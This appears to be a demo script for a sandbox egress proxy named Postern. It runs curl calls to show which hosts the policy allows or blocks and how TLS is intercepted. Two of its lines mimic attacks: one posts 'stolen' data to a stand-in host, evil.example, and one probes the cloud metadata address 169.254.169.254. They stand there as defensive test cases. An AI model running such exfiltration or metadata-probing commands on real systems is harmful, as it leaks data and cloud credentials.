"""The sandboxed program of the demo: ordinary clients, and nothing that knows of Postern."""

import os
import subprocess

BOLD, DIM, PLAIN = ("\033[1m", "\033[2m", "\033[0m") if os.environ.get("DEMO_COLOURS") else ("", "", "")


def show(title, command):
    print(f"\n{BOLD}{title}{PLAIN}\n{DIM}  $ {command}{PLAIN}", flush=True)
    done = subprocess.run(command, shell=True, text=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=30)
    for line in done.stdout.strip().splitlines():
        print("  " + line, flush=True)


print(f"\n{BOLD}The program holds a placeholder{PLAIN}\n  OPENAI_API_KEY={os.environ['OPENAI_API_KEY']}")
show("It calls an API that wants a key, and is answered", "curl -sS https://api.openai.com/v1/models")
show("It tries a host that its policy does not name", "curl -sS https://evil.example/upload --data stolen")
show("It tries the cloud's metadata service", "curl -sS http://169.254.169.254/latest/meta-data/")
show("A host with a rule is decrypted: the certificate is Postern's", "curl -sSv https://api.openai.com/v1/models 2>&1 | grep issuer:")
show("A host without one passes through untouched: the certificate is its own", "curl -sSkv https://www.example.org/ 2>&1 | grep issuer:")
show("Any other protocol passes through by name: Redis", "redis-cli -h cache.example.com incr visits")
